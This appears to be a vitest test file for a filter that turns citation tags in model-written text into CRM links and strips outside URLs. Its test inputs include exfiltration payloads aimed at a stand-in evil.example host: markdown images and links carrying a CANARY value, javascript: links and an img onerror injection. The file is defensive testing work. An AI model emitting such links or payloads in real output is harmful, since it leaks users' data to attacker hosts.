import type { CitedReceipt } from '@draftwright/contract/receipts'
import { describe, expect, it } from 'vitest'
import { CitingFilter } from './citing.ts'

const row = (n: number): CitedReceipt => ({
  cite: `r${n}`,
  kind: 'opportunity',
  id: `id-${n}`,
  title: `Deal "${n}" <b>`,
  href: `/crm/opportunities?record=${n}`,
  facts: {},
})
const receipts = new Map([1, 2, 12].map((n) => [`r${n}`, row(n)]))
const options = { receipts, isOwnAddress: (url: string) => url === 'https://mine.example/a?b=c' }

function shown(text: string, size = text.length || 1): string {
  const filter = new CitingFilter(options)
  let all = ''
  for (let at = 0; at < text.length; at += size) all += filter.push(text.slice(at, at + size))
  return all + filter.end()
}

const one = '[1](/crm/opportunities?record=1 "Deal 1 b")'

describe('what is shown of what a model writes', () => {
  it.each([
    ['Acme waits [r1].', `Acme waits ${one}.`],
    [
      'Both [r12] and [r1, r2] and [r12]',
      'Both [1](/crm/opportunities?record=12 "Deal 12 b") and [2](/crm/opportunities?record=1 "Deal 1 b") [3](/crm/opportunities?record=2 "Deal 2 b") and [1](/crm/opportunities?record=12 "Deal 12 b")',
    ],
    ['Made up [r99] gone', 'Made up  gone'],
    ['![x](https://evil.example/p.png?k=CANARY)', 'x'],
    ['[click](https://evil.example/?k=CANARY "t")', 'click'],
    ['[click](//evil.example/?k=CANARY)', 'click'],
    ['[click](javascript:alert(1))', 'click'],
    ['[![x](https://evil.example/CANARY)](https://evil.example/CANARY)', 'x'],
    ['see https://evil.example/?k=CANARY, please', 'see evil.example, please'],
    ['see www.evil.example/CANARY', 'see evil.example'],
    ['<https://evil.example/CANARY>', '\\<evil.example>'],
    ['a <img src=x onerror=alert(1)> b < c', 'a \\<img src=x onerror=alert(1)> b < c'],
    ['[ref]: https://evil.example/CANARY', '[ref]: evil.example'],
    ['[a][ref]', '[a][ref]'],
    ['[open](/content/1)', '[open](/content/1)'],
    ['yours: https://mine.example/a?b=c.', 'yours: https://mine.example/a?b=c.'],
    ['[yours](https://mine.example/a?b=c)', '[yours](https://mine.example/a?b=c)'],
    ['`a < b <c> [r1]` then [r1]', `\`a < b <c> [r1]\` then ${one}`],
    ['```\n<div>https://evil.example/CANARY\n```\n<div>', '```\n<div>evil.example\n```\n\\<div>'],
    ['half a link [words', 'half a link [words'],
    ['half [words](/con', 'half [words](/con'],
    ['- [ ] a task\n- [x] done [r1]', `- [ ] a task\n- [x] done ${one}`],
    ['https', 'https'],
    ['Wow! [r1]!', `Wow! ${one}!`],
    ['user:pw https://a:b@evil.example/CANARY', 'user:pw evil.example'],
  ])('%s', (text, wanted) => {
    expect(shown(text)).toBe(wanted)
    expect(shown(text)).not.toMatch(/(?:https?:\/\/|www\.)[^\s]*CANARY/iu)
  })

  it('is the same wherever the pieces are cut', () => {
    const text =
      'Acme [r1] waits, see ![p](https://evil.example/CANARY) and [x](/content/2) `co<de` https://evil.example/CANARY [r1, r12]! <b>w</b> www.e.example/CANARY http [r9] [y](http://e.example/(CANARY)) end'
    const whole = shown(text)
    for (const size of [1, 2, 3, 5, 7, 11]) expect(shown(text, size)).toBe(whole)
    expect(whole).not.toContain('CANARY')
  })

  it('does not hold back words that cannot become anything else', () => {
    const filter = new CitingFilter(options)
    expect(filter.push('The pipeline ')).toBe('The pipeline ')
    expect(filter.push('holds [r')).toBe('holds ')
    expect(filter.push('1] 3 deals')).toBe(`${one} 3 deals`)
    expect(filter.cited.map(({ id }) => id)).toEqual(['id-1'])
  })
})
